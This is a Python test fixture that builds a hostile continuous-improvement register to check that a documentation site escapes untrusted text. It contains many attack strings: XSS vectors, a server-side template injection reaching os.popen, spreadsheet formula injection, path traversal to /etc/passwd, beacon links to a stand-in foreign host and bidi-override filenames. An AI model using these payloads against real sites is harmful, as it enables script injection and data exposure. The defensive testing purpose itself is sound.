"""A register in which every text that a stranger may write is an attack, and so are many that nobody may write.

The payloads below stand for the classes of attack; where the large collections lie beside the repository, they
come along.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from copy import deepcopy
from functools import cache
from pathlib import Path
from typing import Any

from cireg.layout import schema_document, schema_text
from cireg.source import read

_ROOT = Path(__file__).resolve().parents[2]
_COLLECTIONS = _ROOT / "../shared/hostile"

PAYLOADS = {
    "raw HTML": "<img src=x onerror=alert(1)>\n\n<script>alert(2)</script>\n\n<b onmouseover=alert(3)>bold</b>",
    "SVG": "<svg onload=alert(4)><animate onbegin=alert(5) attributeName=x dur=1s></svg>",
    "frame": '<iframe srcdoc="<script>alert(6)</script>"></iframe><object data=x.html></object><embed src=x.html>',
    "end of title": "</title><img src=x onerror=alert(7)>",
    "end of title in entities": "&lt;/title&gt;&lt;img src=x onerror=alert(8)&gt; &#60;svg/onload=alert(9)&#62;",
    "end of script": "</script><script>alert(10)</script><!--<script>",
    "end of attribute": "\" autofocus onfocus=alert(11) x=\" ' onmouseover=alert(12) y=' ` onclick=alert(13) `",
    "end of cell": "</td></tr></table></div></main></body><h1>forged</h1><img src=x onerror=alert(14)>",
    "comment": "<!-- everything after this is gone <![CDATA[ <?php",
    "style": "<style>body{display:none}</style><link rel=stylesheet href=https://foreign.example/x.css>",
    "meta": "<meta http-equiv=refresh content=0;url=https://foreign.example/><base href=https://foreign.example/>",
    "form": "<form action=https://foreign.example/><input name=password><button formaction=javascript:alert(15)>",
    "clobbering": '<a id=__config name=__search></a><div id=__config>{"base":"https://foreign.example/"}</div>',
    "clobbering in Markdown": "# Title {#__config}\n\n[x](#a){: #__search name=getElementById }\n\n<p id=page-title>",
    "beacon": "![seen](https://foreign.example/beacon.png?who=1) <img src=//foreign.example/beacon.gif>",
    "javascript link": "[here](javascript:alert(16)) [there](JaVaScRiPt:alert(17)) <javascript:alert(18)>",
    "javascript link in entities": "[x](&#106;avascript:alert(19)) [y](javascript&colon;alert(20)) [z](&#x6A;s:x)",
    "javascript link over lines": "[x](java&#10;script:alert(21)) [y](java\nscript:alert(22)) [z](<java\tscript:x>)",
    "javascript link by reference": '[go][r] ![i](javascript:alert(24))\n\n[r]: javascript:alert(25) "a title"',
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![y](data:image/svg+xml,<svg/>)",
    "vbscript link": "[x](vbscript:msgbox) [y](file:///etc/passwd) [z](//foreign.example/z) [w](\\\\foreign.example)",
    "link with an attribute": 'https://x.example/"onmouseover="alert(26) <https://x.example/?"onclick=alert(27)>',
    "link title": '[x](https://x.example/ "a\\" onclick=alert(28) ") [y](https://x.example/ \'b\' onclick=alert(29))',
    "attribute list": "ti { onclick=alert(30) style=position:fixed;inset:0 }\n{: onmouseover=alert(31) .md-overlay }",
    "fence": '``` { .html onclick=alert(32) title="<img src=x onerror=alert(33)>" }\ncode\n```',
    "diagram": '```mermaid\ngraph TD;A-->B;click A "javascript:alert(34)"\n```',
    "details": '??? note "<img src=x onerror=alert(35)>"\n    body\n\n!!! danger "<svg onload=alert(36)>"\n    body',
    "abbreviation": '*[HTML]: " onclick=alert(37)\n\nHTML :smile:{ onclick=alert(38) } [TOC]',
    "include": '--8<-- "/etc/hostname"\n\n;--8<-- "mkdocs.yml"\n\n{! cireg.yaml !} {% include \'page.html.j2\' %}',
    "template": "{{7*7}} {{ ''.__class__.__mro__ }} {{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "template statement": "{% for x in ().__class__.__subclasses__() %}{{ x }}{% endfor %} {# gone #} ${7*7} #{7*7}",
    "slots of the frame": "CIREG0BODY0 CIREG0TITLE0 CIREG0ALONE0TEXT cireg0name0 CIREG0ENTRIES0",
    "front matter": "x\n---\ntemplate: ../../evil.html\nhide: [navigation]\n---\n<script>alert(39)</script>",
    "table": "a|b|c\n|---|---|\n| x | <b>y</b> | FORGED |\n\na &#124; b",
    "formula": "=cmd|' /C calc'!A0",
    "formula with a sign": '+HYPERLINK("https://foreign.example/?"&A1,"x")',
    "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "formula in full width": "\uff1dSUM(1,1)",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 abc <b>\u05e9</b>",
    "override of direction": "safe \u202etxt.exe\u202c",
    "long word": "W" * 280,
    "many marks": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319" * 8,
    "joined": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0041 \u2028 \u2029 \u200f \u00ad",
    "emoji": "\U0001f468\U0001f3fd \ufffd \u0130 \ufb01 \U0001d4d0",
    "escapes of a terminal": "a \\x1b]0;owned\\x07 \\u001b[2J %0A::error::x ::add-mask::y",
    "separators": "a;b,c\"d'e\tf",
    "escapes of JSON": '\\u003cscript\\u003ealert(40)\\u003c/script\\u003e \\" \\\\',
    "prototype": "__proto__ constructor toString hasOwnProperty",
    "query": '?text=<img src=x onerror=alert(41)>&status="><svg onload=alert(42)>#javascript:alert(43)',
    "path": "../../../etc/passwd ..\\..\\x /absolute C:\\x CON.html",
    "ids": 'CI-0001 CI-9999 <CI-0002> [CI-0003](javascript:alert(44)) `CI-0004` CI-0005" onclick="alert(45)',
    "mentions": "@everyone #1 fixes #2 https://foreign.example/x?a=1&b=<c>",
    "plural": "{n} {n, plural, one {x} other {y}} {0} {title} %(title)s %s {{}} {",
}
"""A text for each class of attack, by the class's name; the number in an alert tells which one got through."""

SECRET = "quixotryless"
"""A word that stands in nothing but the improvement that is not published."""
SECRET_ID = "CI-4242"

STATUSES = ("proposed", "assessed", "planned", "in-progress", "review", "closed", "on-hold", "rejected", "withdrawn")
_WAY = STATUSES[:6]
_AT_ONCE = 4  # short strings in one payload, a paragraph each
_NAMES = set(re.findall(r'"(?:by|owner|sponsor|confirmed_by)": "([a-z-]+)"', schema_text("improvement"))) | {
    "identity-engineer",
    "service-desk-analyst",
}


@cache
def accepted() -> list[str]:
    """The payloads above that the reader lets through: the others cost the file that they stand in."""
    return [each for each in PAYLOADS.values() if not read("x.yaml", _yaml({"x": each})).problems]


def collected() -> Iterator[str]:
    """The payloads of the collections that lie beside the repository, where they do; those that can be read."""
    strings, vectors = _COLLECTIONS / "strings/blns.txt", _COLLECTIONS / "xss/h5sc-vectors.txt"
    for path in sorted((_COLLECTIONS / "site").glob("*.yaml")):
        data = read(path.name, path.read_bytes()).data or {}
        yield from (value for value in data.values() if isinstance(value, str))
    if vectors.is_file():
        yield from re.split(r"(?=<div id=\"[0-9]+\">)", vectors.read_text(encoding="utf-8"))[1:]
    if strings.is_file():
        lines = strings.read_text(encoding="utf-8").split("\n")
        naughty = [line for line in lines if line and not line.startswith("#")]
        yield from ("\n\n".join(naughty[n : n + _AT_ONCE]) for n in range(0, len(naughty), _AT_ONCE))


def write(folder: Path) -> None:
    """Write the register into a folder that is not there yet."""
    shutil.copytree(_ROOT / "docs", folder / "docs")
    shutil.copy(_ROOT / "mkdocs.yml", folder)
    _save(folder / "cireg.yaml", _config())
    known = accepted()
    for n, payload in enumerate(known):
        _save(folder / f"kpis/k-{n}.yaml", _kpi(n, payload))
        cell = '"' + payload.replace('"', '""') + '"'
        (folder / f"kpis/k-{n}.csv").write_text(f"period,value,note\n2026-01,{n},{cell}\n", encoding="utf-8")
    numbers = iter(range(1, 4000))
    for payload in PAYLOADS.values():
        _item(folder, next(numbers), payload, name=_file_name(payload))
    for payload in known[::4]:
        _item(folder, next(numbers), payload, everywhere=True)
    for route, value in _misfits():
        _misfit(folder, next(numbers), route, value)
    for payload in sorted(set(collected()) - set(PAYLOADS.values())):
        _item(folder, next(numbers), payload)
    hidden = {"title": f"{SECRET} <img src=x onerror=alert(99)>", "publish": False, "opportunity": SECRET}
    _save(folder / f"improvements/{SECRET_ID}.yaml", _improvement(SECRET_ID, 2, SECRET) | hidden)


def line(payload: str) -> str:
    """A payload as it fits into a field of one line."""
    return " ".join(payload.split())[:300] or "blank"


def _save(path: Path, data: dict[str, Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(_yaml(data))


def _yaml(data: dict[str, Any]) -> bytes:
    """Data as YAML: a line for each field, its value as JSON."""
    return "".join(f"{name}: {json.dumps(value, ensure_ascii=False)}\n" for name, value in data.items()).encode()


def _filled(kind: str, node: dict[str, Any], payload: str, *, everywhere: bool) -> Any:
    """A value of the schema that has every field, with a payload in each that may hold any text.

    With `everywhere` it stands in names, days, numbers and fixed lists too.
    """
    name = node.get("$ref", "").rpartition("/")[2]
    if name:
        node = schema_document(kind)["$defs"][name] | node
    if name == "line":
        return line(payload)
    if name == "text":
        return payload
    if "properties" in node and "oneOf" not in node:
        return {key: _filled(kind, each, payload, everywhere=everywhere) for key, each in node["properties"].items()}
    if "items" in node and name != "names":
        return [_filled(kind, node["items"], payload, everywhere=everywhere)]
    if everywhere:
        return payload
    return deepcopy(next(iter(node.get("examples") or node.get("enum") or [None])))


def _improvement(id_: str, n: int, payload: str, *, everywhere: bool = False) -> dict[str, Any]:
    """An improvement with every field; the number chooses its status and what it is tied to."""
    data: dict[str, Any] = _filled("improvement", schema_document("improvement"), payload, everywhere=everywhere)
    status = STATUSES[n % len(STATUSES)]
    way = _WAY[: _WAY.index(status) + 1] if status in _WAY else (*_WAY[: n % 4 + 1], status)
    more: dict[str, Any] = {
        "id": id_,
        "status": status,
        "publish": True,
        "custom": {line(payload): payload, "list": [payload, {payload: [payload]}], "number": 1.5, "nothing": None},
        "history": [
            {"on": f"2026-03-{2 + each:02}", "status": name, "by": line(payload), "note": payload}
            | ({"until": "2026-11-01"} if name == "on-hold" else {})
            for each, name in enumerate(way)
        ],
    }
    if not everywhere:
        count = len(accepted())
        data["vision"]["goal"] = f"g-{n % count}"
        data["scores"] |= {"value": 1 + n % 5, "effort": 1 + n // 5 % 5, "urgency": 1 + n // 25 % 5, "risk": 1 + n % 3}
        data["review"]["verdict"] = ("achieved", "partly", "not-achieved", "worse", "not-measured")[n // 9 % 5]
        data["measures"] = [
            {
                "kpi": f"k-{n % count}",
                "role": "primary",
                "baseline": {"figure": 412, "evidence": line(payload)},
                "target": {"change": "-25%"},
            }
        ]
        data["momentum"]["standardised"] = {"none": line(payload)} if n % 2 else [line(payload)]
        data["plan"]["steps"][0] |= {"due": "2026-10-15", "done": "2026-10-16"} if n % 2 else {"due": "2026-10-15"}
        data["links"] = {
            "part_of": "CI-0001",
            "relates_to": [SECRET_ID],
            "external": [line(payload), f"X{n % count:04}"],
        }
        more |= {
            "owner": f"p-{n % count}",
            "sponsor": f"p-{(n + 1) % count}",
            "practices": [f"a-{n % count}"],
            "services": [f"s-{n % count}"],
            "waivers": [{"rule": "overdue", "reason": line(payload), "until": "2027-01-01"}],
        }
    return data | more


def _item(folder: Path, number: int, payload: str, *, everywhere: bool = False, name: str = "") -> None:
    id_ = f"CI-{number:04}"
    path = folder / f"improvements/{id_}{name}.yaml"
    _save(path, _improvement(id_, number, payload, everywhere=everywhere))


def _file_name(payload: str) -> str:
    """A payload as the words of a file's name."""
    words = re.sub(r"[/\0]", "\u2215", line(payload)).encode()[:180].decode(errors="ignore")
    return f"-{words.rstrip()}"


def _misfits() -> Iterator[tuple[tuple[str, ...], Any]]:
    """Every field of an improvement, each with values of a wrong kind."""
    wrong: list[Any] = [7, -1.5, True, None, [], {}, "", [[]], [None, 7], {"a": []}, "x" * 400]
    routes = list(_routes("improvement", schema_document("improvement"), ()))
    for n, route in enumerate(routes):
        yield route, wrong[n % len(wrong)]


def _routes(kind: str, node: dict[str, Any], route: tuple[str, ...]) -> Iterator[tuple[str, ...]]:
    for name, each in node.get("properties", {}).items():
        yield (*route, name)
        yield from _routes(kind, each, (*route, name))
        yield from _routes(kind, each.get("items", {}), (*route, name))


def _misfit(folder: Path, number: int, route: tuple[str, ...], value: Any) -> None:
    """An improvement with all its fields, one of which has a value of a wrong kind."""
    id_ = f"CI-{number:04}"
    data = _improvement(id_, number, f"a & b < c, number {number}")
    node: Any = data
    for step in route[:-1]:
        node = node.setdefault(step, {})
        node = node[0] if isinstance(node, list) else node
    if isinstance(node, dict):
        node[route[-1]] = value
    _save(folder / f"improvements/{id_}.yaml", data)


def _kpi(n: int, payload: str) -> dict[str, Any]:
    data: dict[str, Any] = _filled("kpi", schema_document("kpi"), payload, everywhere=False)
    own = {"id": f"k-{n}", "goal": f"g-{n}", "owner": f"p-{n}", "services": [f"s-{n}"], "practices": [f"a-{n}"]}
    data.pop("derived")
    return data | own | {"bounds": [0, None]}


def _config() -> dict[str, Any]:
    """cireg.yaml, with a goal, practice, service, person and kind of record for each payload."""
    every = accepted()
    anchor = {str(each): line(every[each]) for each in range(1, 6)}

    def owned(letter: str) -> list[dict[str, Any]]:
        return [
            {"id": f"{letter}-{n}", "name": line(payload), "owner": f"p-{n}", "description": payload}
            for n, payload in enumerate(every)
        ]

    return {
        "version": 1,
        "name": line(PAYLOADS["end of title"]),
        "owner": "p-3",
        "forge": {"url": "https://forge.example/it/register?a=b&c=`{{7*7}}`#(", "branch": "main"},
        "goals": owned("g"),
        "practices": owned("a"),
        "services": owned("s"),
        "people": [
            *(
                {
                    "id": f"p-{n}",
                    "name": line(payload),
                    "until": "2026-01-01" if n % 7 == 0 else None,
                    "successor": "p-1",
                }
                for n, payload in enumerate(every)
            ),
            *({"id": name, "name": line(every[-1]), "roles": ["sponsor"]} for name in sorted(_NAMES)),
        ],
        "scoring": {"anchors": dict.fromkeys(("value", "effort", "risk", "urgency"), anchor)},
        "links": [
            {"pattern": f"X{n:04}", "name": line(payload), "url": "https://records.example/?a=1&b={id}{{7*7}}`"}
            for n, payload in list(enumerate(every))[:49]
        ],
    }
